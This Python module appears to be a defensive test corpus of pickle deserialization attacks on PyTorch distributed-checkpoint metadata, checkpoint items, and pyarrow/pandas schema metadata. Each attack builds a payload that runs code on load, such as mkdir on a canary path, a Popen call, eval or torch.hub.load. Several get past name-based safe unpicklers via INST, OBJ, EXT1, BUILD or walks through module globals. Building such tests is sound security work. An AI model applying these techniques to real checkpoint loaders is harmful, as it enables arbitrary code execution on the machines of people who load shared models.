"""Code on load, in whatever could be unpickled: the metadata of a plain DCP directory, and its items.

Each of these runs under `torch.distributed.checkpoint.load`, or would under a reader that checks names alone.
"""

from __future__ import annotations

import copyreg
import io
import os
import pickle
import pickletools
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint import metadata as dcp

from attacks.corpus import Workshop, attack
from ray_stateful.format import layout

_DCP = "torch.distributed.checkpoint.metadata"


def touch(path: str) -> None:
    """What the attacker wants to run: anything, here something that can be seen."""
    Path(path).touch()


class Runs:
    """Pickles as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def metadata_is(workshop: Workshop, data: bytes) -> None:
    (workshop.directory / layout.DCP_METADATA).write_bytes(data)


def text(value: str) -> bytes:
    """The instruction that puts a text on the stack."""
    return pickle.BINUNICODE + len(value.encode()).to_bytes(4, "little") + value.encode()


def named(module: str, name: str) -> bytes:
    """The instruction that looks a name up."""
    return text(module) + text(name) + pickle.STACK_GLOBAL


def assemble(*parts: bytes) -> bytes:
    return pickle.PROTO + b"\x04" + b"".join(parts) + pickle.STOP


@attack(foreign=True)
def metadata_calls_a_function(workshop):
    """`.metadata` is a pickle that calls os.mkdir when it is loaded (REDUCE)."""
    metadata_is(workshop, pickle.dumps(Runs(os.mkdir, str(workshop.canary)), protocol=4))


@attack(foreign=True)
def metadata_calls_by_protocol_0(workshop):
    """The same in the oldest protocol, whose GLOBAL takes its names from lines of text."""
    metadata_is(workshop, f"cos\nmkdir\n(V{workshop.canary}\ntR.".encode())


@attack(foreign=True)
def metadata_calls_through_inst(workshop):
    """INST looks a class up and calls it in one instruction, past a reader that guards REDUCE."""
    metadata_is(workshop, f"(V{workshop.canary}\nios\nmkdir\n.".encode())


@attack(foreign=True)
def metadata_calls_through_obj(workshop):
    """OBJ calls what lies on the stack."""
    path = text(str(workshop.canary))
    metadata_is(workshop, assemble(pickle.MARK, named("os", "mkdir"), path, pickle.OBJ))


@attack(foreign=True)
def metadata_calls_through_newobj(workshop):
    """NEWOBJ calls the `__new__` of a class that is not DCP's: a subprocess, made and started."""
    made = named("subprocess", "Popen") + text("touch") + pickle.TUPLE1 + pickle.NEWOBJ
    metadata_is(workshop, assemble(made))


@attack(foreign=True)
def metadata_walks_from_an_allowed_module(workshop):
    """The module is DCP's own, and the name leads out of it: `metadata` imports `os`."""
    call = named(_DCP, "os.mkdir") + text(str(workshop.canary)) + pickle.TUPLE1 + pickle.REDUCE
    metadata_is(workshop, assemble(call))


@attack(foreign=True)
def metadata_walks_from_an_allowed_class(workshop):
    """The name begins with an allowed class and walks on to its globals."""
    name = "Metadata.__init__.__globals__"
    metadata_is(workshop, assemble(named(_DCP, name)))


@attack(foreign=True)
def metadata_uses_the_extension_registry(workshop):
    """EXT1 takes a function from copyreg's registry by number, past a reader that guards names."""
    if ("attacks.pickles", "touch") not in copyreg._extension_registry:  # a registry of the process, kept
        copyreg.add_extension("attacks.pickles", "touch", 240)
    call = pickle.EXT1 + bytes([240]) + text(str(workshop.canary)) + pickle.TUPLE1 + pickle.REDUCE
    metadata_is(workshop, assemble(call))


@attack(foreign=True)
def metadata_has_a_persistent_id(workshop):
    """A persistent id asks the reader to fetch an object by whatever is in it."""
    metadata_is(workshop, assemble(text(str(workshop.canary)), pickle.BINPERSID))


@attack(foreign=True)
def metadata_sets_attributes_of_a_class(workshop):
    """BUILD on the class instead of an object: Metadata would have another `__init__` in the whole process."""
    changes = pickle.EMPTY_DICT + text("__init__") + named("torch", "Size") + pickle.SETITEM
    build = named(_DCP, "Metadata") + pickle.NONE + changes + pickle.TUPLE2 + pickle.BUILD
    metadata_is(workshop, assemble(build))


@attack(foreign=True)
def metadata_sets_attributes_of_an_object(workshop):
    """BUILD sets an attribute that the class does not have, to be met by whoever looks for it later."""
    made = named(_DCP, "Metadata") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    changes = pickle.EMPTY_DICT + text("__class__") + named(_DCP, "StorageMeta") + pickle.SETITEM
    metadata_is(workshop, assemble(made, changes, pickle.BUILD))


@attack(foreign=True)
def metadata_evaluates_text(workshop):
    """`builtins.eval`, the shortest way from a text to a program."""
    program = f"__import__('os').mkdir({str(workshop.canary)!r})"
    metadata_is(workshop, pickle.dumps(Runs(eval, program), protocol=4))


@attack(foreign=True)
def metadata_loads_another_pickle(workshop):
    """A pickle within: torch's own loader is called on the bytes of a second, worse one."""
    worse = pickle.dumps(Runs(os.mkdir, str(workshop.canary)))
    metadata_is(workshop, pickle.dumps(Runs(torch.storage._load_from_bytes, worse), protocol=4))


@attack(foreign=True)
def metadata_hides_code_in_planner_data(workshop):
    """All is DCP's, but for one object deep in the planner's data, which nobody needs in order to read."""
    metadata = dcp.Metadata({}, planner_data={"a": [Runs(os.mkdir, str(workshop.canary))]}, storage_data={})
    metadata_is(workshop, pickle.dumps(metadata, protocol=4))


@attack(foreign=True)
def stale_metadata_of_one_rank(workshop):
    """`.metadata` can't be read; next to it lies a `__0.metadata` that runs code, which stock readers fall back to."""
    metadata_is(workshop, b"\x80\x04 no pickle")
    code = pickle.dumps(Runs(os.mkdir, str(workshop.canary)), protocol=4)
    (workshop.directory / "__0.metadata").write_bytes(code)


def items_are(workshop: Workshop, data: bytes, key: str = "thing.name") -> None:
    """Put `data` where the item of an entry was, and have the metadata say so."""
    path = workshop.directory / layout.DCP_METADATA
    metadata = pickle.loads(path.read_bytes())
    (info,) = (info for index, info in metadata.storage_data.items() if index.fqn == key)
    info.relative_path, info.offset, info.length = "__0_9.distcp", 0, len(data)
    (workshop.directory / info.relative_path).write_bytes(data)
    path.write_bytes(pickle.dumps(metadata))


def archive(pickled: bytes) -> bytes:
    """A zip archive as torch.save makes it, around a pickle of ours."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as made:
        made.writestr("archive/data.pkl", pickled)
        made.writestr("archive/byteorder", b"little")
        made.writestr("archive/version", b"3\n")
    return file.getvalue()


@attack(foreign=True)
def item_calls_a_function(workshop):
    """The pickle within a torch.save archive calls os.mkdir; `load_bytes` of stock planners runs it."""
    items_are(workshop, archive(pickle.dumps(Runs(os.mkdir, str(workshop.canary)), protocol=2)))


@attack(foreign=True)
def item_is_a_bare_pickle(workshop):
    """An item is no archive at all but a pickle, which torch.load takes for a file of its oldest format."""
    items_are(workshop, pickle.dumps(Runs(os.mkdir, str(workshop.canary)), protocol=2))


@attack(foreign=True)
def item_is_a_whole_module(workshop):
    """An item is a pickled nn.Module: harmless to look at, and its class may be anybody's."""
    file = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2), file)
    items_are(workshop, file.getvalue())


@attack(foreign=True)
def item_asks_for_a_torch_function(workshop):
    """A function of torch that downloads and imports code: its module's name begins as an allowed one does."""
    call = b"ctorch.hub\nload\n" + text("nobody/nothing") + pickle.TUPLE1 + pickle.REDUCE
    items_are(workshop, archive(pickletools.optimize(b"\x80\x02" + call + b".")))


@attack
def our_metadata_runs_code(workshop):
    """In a checkpoint of ours `.metadata` is a file for stock tools; damaged, with the manifest left as it was."""
    metadata_is(workshop, pickle.dumps(Runs(os.mkdir, str(workshop.canary)), protocol=4))


@attack
def value_in_the_index_is_a_pickle(workshop):
    """The value of an entry is not JSON but a pickle, in case a reader tries one after the other."""
    code = pickle.dumps(Runs(os.mkdir, str(workshop.canary)), protocol=0)
    workshop.row("thing.name", value=code.decode())


@attack
def column_of_an_extension_type(workshop):
    """A column's metadata names the extension type that old pyarrow unpickles (CVE-2023-47248)."""
    table = workshop.table()
    code = pickle.dumps(Runs(os.mkdir, str(workshop.canary)))
    field = table.schema.field("key").with_metadata(
        {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": code}
    )
    workshop.write_table(table.cast(table.schema.set(0, field)))


@attack
def metadata_of_the_schema_is_a_pickle(workshop):
    """pandas keeps a description in the schema's metadata; here it holds something else."""
    code = pickle.dumps(Runs(os.mkdir, str(workshop.canary)))
    workshop.write_table(workshop.table().replace_schema_metadata({"pandas": code}))
